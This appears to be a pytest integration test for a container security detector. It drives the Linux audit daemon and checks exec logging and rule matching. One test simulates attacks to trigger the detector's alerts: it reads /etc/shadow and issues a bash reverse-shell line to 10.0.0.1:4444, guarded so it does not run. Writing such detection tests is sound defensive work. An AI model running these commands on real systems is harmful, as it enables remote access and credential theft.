"""The audit log source against the real thing: the kernel's audit subsystem and Debian's auditd, writing
to a private log. Execs come out of the reader with their exact arguments (hex-encoded, split long ones),
replay through the built-in rules, follow live, and pair with the connector's report of the same exec.

auditd runs here with its own config and log (``-s nochange``; the enable flag is restored afterwards), or,
when an audit daemon already runs, the test reads that one's log. The kernel's audit enable flag, the one
execve rule this test adds (removed afterwards) and the daemon registration are global: the test needs root.
"""

from __future__ import annotations

import os
import platform
import re
import shutil
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from containerguard.cli.detect import builtin_rule_files
from containerguard.rules.compiler import compile_rules
from containerguard.rules.engine import Engine
from containerguard.rules.loader import load_files
from containerguard.rules.model import Event
from containerguard.sources.events.auditd import DEFAULT_AUDIT_LOG, AuditWatcher, read_events, read_records
from containerguard.sources.events.base import ReadStats
from needs import missing

CONF = """\
local_events = yes
write_logs = yes
log_file = {log}
log_group = root
log_format = ENRICHED
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 8
num_logs = 2
priority_boost = 0
name_format = NONE
max_log_file_action = ROTATE
space_left = 2
space_left_action = IGNORE
admin_space_left = 1
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
plugin_dir = {plugins}
end_of_event_timeout = 2
"""


def _auditctl(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["auditctl", *args], capture_output=True, text=True, timeout=30, check=False)


def _status() -> dict[str, str]:
    out = _auditctl("-s")
    if out.returncode != 0:
        missing(f"the kernel refuses audit here: auditctl -s: {(out.stderr or out.stdout).strip()}")
    return dict(line.split(" ", 1) for line in out.stdout.splitlines() if " " in line)


@pytest.fixture
def audit_log(tmp_path: Path) -> Iterator[Path]:
    """An auditd writing every execve (tagged with this test's key) to a log: a private one started here, or
    the system's when an audit daemon already runs (a host where installing the package started it)."""
    if os.geteuid() != 0:
        missing("the kernel's audit subsystem needs root")
    if shutil.which("auditd") is None or shutil.which("auditctl") is None:
        missing("auditd not installed (apt-get install -y auditd)")
    before = _status()
    arch = "b64" if platform.architecture()[0] == "64bit" else "b32"
    rule = ["always,exit", "-F", f"arch={arch}", "-S", "execve", "-F", f"key=cg-test-{os.getpid()}"]
    daemon: subprocess.Popen[bytes] | None = None
    if before.get("pid", "0") != "0":
        log = Path(DEFAULT_AUDIT_LOG)
        if not os.access(log, os.R_OK):
            missing(f"an audit daemon (pid {before['pid']}) runs, and its log {log} is not readable")
    else:
        conf = tmp_path / "conf"
        conf.mkdir(mode=0o700)
        (tmp_path / "plugins").mkdir()
        log = tmp_path / "audit.log"
        (conf / "auditd.conf").write_text(CONF.format(log=log, plugins=tmp_path / "plugins"))
        (conf / "auditd.conf").chmod(0o640)
        daemon = subprocess.Popen(["auditd", "-n", "-s", "nochange", "-c", str(conf)], stdout=subprocess.PIPE,
                                  stderr=subprocess.STDOUT)
    try:
        if daemon is not None:
            deadline = time.monotonic() + 10
            while _status().get("pid") != str(daemon.pid):
                if daemon.poll() is not None or time.monotonic() > deadline:
                    out = daemon.stdout.read().decode(errors="replace") if daemon.stdout else ""
                    pytest.fail(f"auditd did not register with the kernel: {out[-2000:]}")
                time.sleep(0.05)
        enabled = _auditctl("-e", "1")
        assert enabled.returncode == 0, enabled.stderr
        added = _auditctl("-a", *rule)
        assert added.returncode == 0, added.stderr
        yield log
    finally:
        _auditctl("-d", *rule)
        _auditctl("-e", before.get("enabled", "0"))
        if daemon is not None:
            daemon.terminate()
            try:
                daemon.wait(10)
            except subprocess.TimeoutExpired:
                daemon.kill()
                daemon.wait()
            if daemon.stdout is not None:
                daemon.stdout.close()


def _wait(found: Callable[[], Any], timeout: float = 5.0) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        hit = found()
        if hit:
            return hit
        time.sleep(0.05)
    return found()


def _records(log: Path) -> list[dict[str, Any]]:
    with open(log, "rb") as f:
        return list(read_records(f, ReadStats(), str(log)))


def test_real_execs_come_out_with_their_exact_arguments(audit_log: Path) -> None:
    marker = f"cg-audit-{os.getpid()}"
    long_arg = "A" * 9000 + marker  # longer than one record holds: split, hex encoded
    spaced = f"two words {marker}\nand a newline"
    done = subprocess.run(["/bin/true", long_arg, spaced, f'"{marker}"'], check=False)
    assert done.returncode == 0

    def mine() -> list[dict[str, Any]]:
        return [r for r in _records(audit_log) if r["comm"] == "true" and marker in "".join(r["args"])]

    recs = _wait(mine)
    assert len(recs) == 1, f"no exec of /bin/true in {audit_log}: {audit_log.read_text()[-3000:]}"
    rec = recs[0]
    assert rec["args"] == ["/bin/true", long_arg, spaced, f'"{marker}"']
    assert rec["exepath"] == os.path.realpath("/bin/true") and rec["ppid"] == os.getpid()
    assert rec["user"] == "root" and rec["uid"] == 0 and rec["cwd"] == os.getcwd()
    raw = audit_log.read_text(errors="replace")
    assert re.search(r"a1_len=\d+ a1\[0\]=", raw), "the kernel did not split the long argument"


def test_real_attacks_replay_through_the_builtin_rules(audit_log: Path, tmp_path: Path) -> None:
    marker = f"cg-rules-{os.getpid()}"
    subprocess.run(["cat", "/etc/shadow", f"/nonexistent/{marker}"], stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, check=False)
    subprocess.run(["sh", "-c", f"true || bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 # {marker}"], check=True)
    _wait(lambda: sum(marker in " ".join(r["args"]) for r in _records(audit_log)) >= 2)
    compiled = compile_rules(load_files(builtin_rule_files()))
    stats = ReadStats()
    with open(audit_log, "rb") as f:
        events = [ev for ev in read_events(f, stats, "audit.log") if marker in " ".join(ev.data["args"])]
    alerts = {a.rule: a for a in Engine(compiled, rule_matching="all").run(iter(events))}
    assert {"Shadow file or kubeconfig read", "Reverse shell"} <= set(alerts), [str(e.data) for e in events]
    shadow = alerts["Shadow file or kubeconfig read"]
    assert shadow.output_fields["proc.name"] == "cat" and shadow.output_fields["user.name"] == "root"
    assert stats.skipped == 0, stats.reasons


def test_real_execs_followed_live_and_paired_with_the_connector(audit_log: Path) -> None:
    from containerguard.sources.events.process_live import LiveProcessSource

    marker = f"cg-live-{os.getpid()}"
    seen: list[Event] = []
    lock = threading.Lock()

    def on_event(ev: Event) -> None:
        with lock:
            seen.append(ev)

    def mine() -> list[Event]:
        with lock:
            return [e for e in seen if marker in " ".join(e.data["args"])]

    # the audit log alone, live
    with AuditWatcher(on_event, str(audit_log), lambda _cid: None) as watcher:
        started = time.monotonic()
        subprocess.run(["sh", "-c", f": {marker}"], check=True)
        hits = _wait(mine, 2.0)
        assert hits, f"no live event within 2 s; watcher {watcher.stats}, reader {watcher.read_stats}"
        assert time.monotonic() - started < 2.0
    assert hits[0].data["args"] == ["sh", "-c", f": {marker}"] and hits[0].data["comm"] == "sh"

    # the connector and the audit log together: one event for one exec
    with lock:
        seen.clear()
    source = LiveProcessSource(on_event, lambda _cid: None, audit_log=str(audit_log), scan_existing=False)
    assert source.audit is not None
    from_audit: list[Event] = []
    to_dedup = source.audit.on_event

    def tap(ev: Event) -> None:  # what auditd's witness reports, before the pairing
        from_audit.append(ev)
        to_dedup(ev)

    source.audit.on_event = tap
    with source:
        subprocess.run(["sh", "-c", f"sleep 0.1; : {marker}"], check=True)
        audited = _wait(lambda: [e for e in from_audit if marker in " ".join(e.data["args"])], 3.0)
    assert audited, "auditd's witness never reported the exec"
    (out,) = mine()  # both witnesses saw it, one event came out
    assert out.data["pid"] == audited[0].data["pid"] and source.dedup.duplicates >= 1
